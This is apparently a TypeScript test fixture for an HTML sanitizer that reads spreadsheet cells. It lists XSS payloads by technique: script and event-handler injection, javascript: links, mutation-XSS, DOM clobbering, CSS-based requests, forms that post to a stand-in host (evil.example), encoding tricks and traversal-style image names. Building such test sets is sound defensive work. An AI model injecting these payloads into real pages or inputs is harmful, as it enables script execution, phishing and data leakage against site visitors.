/** Markup, by what it tries. */
export const CLASSES: Record<string, readonly string[]> = {
  scripts: [
    "<script>markExecuted()</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script>markExecuted()",
    "<scr<script>ipt>markExecuted()</scr</script>ipt>",
  ],
  // Attributes that run a script by themselves, when something happens, or when the visitor does something.
  "event handlers": [
    "<img src=x onerror=markExecuted()>",
    "<img /src=x /onerror=&#109;arkExecuted()>",
    '<IMG """><SCRIPT>markExecuted()</SCRIPT>">',
    "<svg onload=markExecuted()>words",
    "<input autofocus onfocus=markExecuted()>words",
    "<p onfuturething=markExecuted()>words</p>",
    "<a href=/payments onclick=markExecuted()>words</a>",
    "<details open ontoggle=markExecuted()>words</details>",
    "<div popover id=p onbeforetoggle=markExecuted()>words</div><button popovertarget=p>words</button>",
  ],
  // Links to URLs that run a script, read a file, or open another program.
  "link URLs": [
    "javascript:markExecuted()",
    "java&#115;cript:markExecuted()",
    "java&Tab;script:markExecuted()",
    "\tjavascript:markExecuted()",
    "java\nscript:markExecuted()",
    "data:text/html,<script>markExecuted()</script>",
    "file:///etc/passwd",
    "ms-word:ofe|u|https://evil.example/x.docx",
  ].map((url) => `<a title=x href="${url}">words</a>`),
  "other URLs": [
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    "<img src=/\\evil.example/x.png>",
    "<img src='https://localhost@evil.example/x.png'>",
    "<img src='blob:https://evil.example/1'>",
    "<img src='data:image/svg+xml,<svg onload=markExecuted()>'>",
    "<img src=/favicon.svg srcset='https://evil.example/x.png 2x'>",
    "<picture><source srcset=https://evil.example/x.png><img src=/favicon.svg></picture>",
    "<a href=/payments ping=https://evil.example/>words</a>",
    "<a href=/payments rel=opener target=_blank>words</a>",
  ],
  // SVG and MathML, whose parsers follow other rules than HTML's.
  "SVG and MathML": [
    "<svg><script>&#109;arkExecuted()</script></svg>",
    "<svg><a xlink:href=javascript:markExecuted()><text y=20>words</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=markExecuted()/>#x' /></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=markExecuted()></annotation-xml></math>",
  ],
  // Markup that is harmless until it is written out and read in a second time.
  mutations: [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=markExecuted()&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=markExecuted() src>'>",
    "<noscript><p title='</noscript><img src=x onerror=markExecuted()>'>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=markExecuted()>'>",
    "<!--<img src='--><img src=x onerror=markExecuted()>'>",
    "<![CDATA[><img src=x onerror=markExecuted()>]]>",
    `${"<div>".repeat(511)}<svg><style><a title='</style><img src=x onerror=markExecuted()>'>`,
  ],
  // Names by which an element takes the place of a property that scripts of the page read.
  "clobbered names": [
    ...["location", "getElementById", "pagePath", "___gatsby", "__proto__"].map(
      (name) => `<p id=${name} name=${name}>words</p>`,
    ),
    "<a id=x><a id=x name=y href=javascript:markExecuted()>words</a>",
    "<form name=body><input name=firstChild><input name=attributes></form>",
  ],
  // Styles that load, cover the page, or spy on it.
  styles: [
    "<style>a[href^='/']{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>words</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>words</p>",
    "<div class='tableFrame skipLink'>words</div>",
  ],
  // Elements that change the page around them, ask the visitor for something, or open another page.
  "frames and forms": [
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe srcdoc='<script>parent.markExecuted()</script>'></iframe>",
    "<form action=https://evil.example/><input name=account><button>Pay</button></form>",
    "<dialog open>Pay into another account</dialog>",
  ],
  // Content that waits in a template, a shadow tree or a custom element.
  templates: [
    "<template><script>markExecuted()</script></template>",
    "<template shadowrootmode=open><script>markExecuted()</script></template>",
    "<evil-element><script>markExecuted()</script></evil-element>",
  ],
  // Tricks with characters, in tags and their attributes.
  encodings: [
    "<img src=x one\u0000rror=markExecuted()>",
    "<\u0000img src=x onerror=markExecuted()><img src=x onerror=markExecuted()>",
    "＜script＞markExecuted()＜/script＞<script>markExecuted()</script>",
    "<a href='\u00a0javascript:markExecuted()' onclick=markExecuted()>words</a>",
    "<img src='//evil\u3002example/x.png'>",
  ],
}

/** The text of a cell, and the markup that decoding it once too often would make of it. */
const ENCODED_CELLS: readonly [cell: string, decoded: string][] = [
  ["&lt;script&gt;markExecuted()&lt;/script&gt;", "<script>markExecuted()</script>"],
  ["&amp;lt;svg onload=markExecuted()&amp;gt;", "<svg onload=markExecuted()>"],
  [
    "<p title='&lt;img src=x onerror=markExecuted()&gt;'>words</p>",
    "<img src=x onerror=markExecuted()>",
  ],
  // Excel's own notation for characters, which the reader decodes by itself.
  ["_x003C_script_x003E_markExecuted()_x003C_/script_x003E_", "<script>markExecuted()</script>"],
]

/** Cells that name a picture, in the column Image. */
const IMAGE_CELLS = [
  "https://evil.example/x.png",
  "data:image/svg+xml,<svg onload=markExecuted()>.svg",
  "../x.png",
  "%2e%2e%2fx.png",
  "x.png?y=https://evil.example/",
  'x" onerror="markExecuted()" y=".png',
  "x\u202egnp.exe.png",
]

/** What is in the cells of encoded attacks, for a parser. */
export const DECODED_CELLS = ENCODED_CELLS.map(([, markup]) => markup)

export const ALL_ATTACKS = [
  ...Object.values(CLASSES).flat(),
  ...ENCODED_CELLS.map(([cell]) => cell),
  ...IMAGE_CELLS,
]
